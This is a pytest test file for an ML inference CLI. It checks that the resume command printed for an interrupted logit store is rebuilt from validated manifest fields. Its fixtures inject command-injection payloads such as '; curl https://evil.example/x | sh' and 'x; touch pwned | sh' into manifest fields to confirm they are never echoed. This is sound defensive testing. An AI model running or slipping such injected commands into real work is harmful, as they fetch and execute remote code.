"""The command an incomplete store's error gives to finish it is rebuilt from the manifest's
checked fields (model file, split source, the recorded options), never its ``command`` text."""

from __future__ import annotations

import json
import shlex

import pytest
from typer.testing import CliRunner

from ensemble.cli import app
from ensemble.errors import EnsError
from ensemble.formats.dataset import load_split
from ensemble.formats.store import MANIFEST, read_store
from ensemble.inference.run import InferOptions, infer

from tests.ensemble.conftest import Killed, kill_at_first_chunk, make_inat, store_bytes, tiny_onnx

EVIL = "; curl https://evil.example/x | sh"


@pytest.fixture
def interrupted(tmp_path):
    """An interrupted run's store, its folder and the manifest JSON it left."""
    data = make_inat(tmp_path / "inat", n_val=6, n_test=2)
    model = tiny_onnx(tmp_path / "m.onnx")
    options = InferOptions(tta=("flip",), merge="gmean", workers=0, batch_size=2, chunk_size=2,
                           dtype="float32", out=tmp_path / "runs")
    with pytest.raises(Killed):
        infer([model], [load_split(data / "val2019.json")], options, progress=kill_at_first_chunk)
    folder = tmp_path / "runs" / "m" / "val"
    return folder, json.loads((folder / MANIFEST).read_text()), data, model


def _finish_line(folder) -> str:
    with pytest.raises(EnsError) as info:
        read_store(folder)
    return str(info.value)


def _tamper(folder, manifest, change) -> None:
    change(manifest)
    (folder / MANIFEST).write_text(json.dumps(manifest))


def test_the_command_text_of_the_file_is_never_printed(interrupted, tmp_path):
    folder, manifest, data, model = interrupted
    made = manifest["command"]
    _tamper(folder, manifest, lambda m: m.update(command=made + EVIL))
    message = _finish_line(folder)
    assert "evil" not in message and "curl" not in message
    assert message.endswith(f"finish it with: {made}")  # rebuilt: the same command as the run's
    # And it finishes the store: the same bytes as an uninterrupted run.
    args = shlex.split(message.split("finish it with: ", 1)[1])
    assert args[:3] == ["ens", "infer", str(model)]
    result = CliRunner().invoke(app, args[1:] + ["--workers", "0"])
    assert result.exit_code == 0, result.output
    whole = InferOptions(tta=("flip",), merge="gmean", workers=0, batch_size=2, chunk_size=2, dtype="float32",
                         out=tmp_path / "whole")
    infer([model], [load_split(data / "val2019.json")], whole)
    assert store_bytes(folder) == store_bytes(tmp_path / "whole" / "m" / "val")


@pytest.mark.parametrize("change", [
    lambda m: m["arguments"].update(tta=["flip" + EVIL]),
    lambda m: m["arguments"].update(merge="gmean" + EVIL),
    lambda m: m["arguments"].update(batch_size="2" + EVIL),
    lambda m: m["arguments"].update(keep_views="yes" + EVIL),
    lambda m: m["arguments"].update(ray_address="auto" + EVIL),
    lambda m: m["arguments"].update(name="x" + EVIL),
    lambda m: m["arguments"].update(exec=EVIL),
    lambda m: m.update(arguments=EVIL),
    lambda m: m.pop("arguments"),
    lambda m: m["model"].update(file=["m.onnx"]),
    lambda m: m["dataset"].update(split="val" + EVIL),
    lambda m: m["model"].update(file="m.onnx\n" + EVIL),
], ids=["tta", "merge", "count", "flag", "address", "name", "unknown", "not-an-object", "absent", "file",
        "split", "control"])
def test_a_field_that_fails_its_check_leaves_the_command_out(interrupted, change):
    folder, manifest, _, _ = interrupted
    _tamper(folder, manifest, lambda m: (change(m), m.update(command="ens infer" + EVIL)))
    message = _finish_line(folder)
    assert "evil" not in message and "curl" not in message
    assert message == f"{folder}: incomplete logit store (its run was interrupted); run the same `ens infer` " \
                      "again to finish it"


@pytest.mark.parametrize("field, value", [("model.file", "x; touch pwned | sh/m.onnx"),
                                          ("dataset.source", "x; touch pwned | sh/val2019.json")])
def test_paths_are_quoted_as_one_argument_each(interrupted, field, value):
    folder, manifest, _, _ = interrupted
    part, key = field.split(".")
    _tamper(folder, manifest, lambda m: m[part].update({key: value}))
    command = _finish_line(folder).split("finish it with: ", 1)[1]
    args = shlex.split(command)
    assert value in args and "touch" not in args and "|" not in args and "sh" not in args


def test_the_recorded_out_is_not_what_the_command_gives(interrupted):
    """--out is the runs folder the store was read from; the recorded text is not repeated."""
    folder, manifest, _, _ = interrupted
    _tamper(folder, manifest, lambda m: m["arguments"].update(out="x; touch pwned | sh"))
    args = shlex.split(_finish_line(folder).split("finish it with: ", 1)[1])
    assert args[args.index("--out") + 1] == str(folder.parent.parent) and "touch" not in " ".join(args)


def test_the_command_of_a_store_that_moved_is_left_out(interrupted, tmp_path):
    """A store folder renamed: its command would finish another folder."""
    folder, _, _, _ = interrupted
    moved = folder.parent.parent / "other"
    folder.parent.rename(moved)
    message = _finish_line(moved / "val")
    assert "run the same `ens infer` again to finish it" in message


def test_read_from_inside_the_store_folder_gives_the_command(interrupted, monkeypatch):
    folder, manifest, _, _ = interrupted
    monkeypatch.chdir(folder)
    assert _finish_line(".").endswith(f"finish it with: {manifest['command']}")


def test_the_out_of_the_command_is_the_folder_read_after_the_runs_folder_moved(interrupted, tmp_path, monkeypatch):
    """``mv runs runs_old``: the finishing command writes runs_old, where the chunks wait, not runs."""
    folder, _, _, _ = interrupted
    monkeypatch.chdir(tmp_path)
    (tmp_path / "runs").rename(tmp_path / "runs_old")
    args = shlex.split(_finish_line("runs_old/m/val").split("finish it with: ", 1)[1])
    assert args[args.index("--out") + 1] == "runs_old"  # relative: below the current folder
    monkeypatch.chdir(tmp_path / "inat")
    args = shlex.split(_finish_line(tmp_path / "runs_old" / "m" / "val").split("finish it with: ", 1)[1])
    assert args[args.index("--out") + 1] == str(tmp_path / "runs_old")  # elsewhere: absolute


def test_the_moved_store_finishes_with_the_command_given(interrupted, tmp_path, monkeypatch):
    folder, _, data, model = interrupted
    monkeypatch.chdir(tmp_path)
    (tmp_path / "runs").rename(tmp_path / "runs_old")
    args = shlex.split(_finish_line("runs_old/m/val").split("finish it with: ", 1)[1])
    result = CliRunner().invoke(app, args[1:] + ["--workers", "0"])
    assert result.exit_code == 0, result.output
    assert read_store(tmp_path / "runs_old" / "m" / "val").logits.shape[0] == 6
    assert not (tmp_path / "runs").exists()


@pytest.mark.parametrize("field, value", [("model.file", "--help/m.onnx"), ("dataset.source", "--data=/etc/val2019.json"),
                                          ("dataset.source", "-x/val2019.json")])
def test_paths_that_start_with_a_dash_are_not_read_as_options(interrupted, field, value):
    folder, manifest, _, _ = interrupted
    part, key = field.split(".")
    _tamper(folder, manifest, lambda m: m[part].update({key: value}))
    command = _finish_line(folder).split("finish it with: ", 1)[1]
    args = shlex.split(command)
    assert not any(a.startswith("-") and not a.startswith(("--tta", "--merge", "--batch-size", "--chunk-size",
                                                          "--dtype", "--device", "--out", "--index"))
                   for a in args), args
    assert "./" + value in args
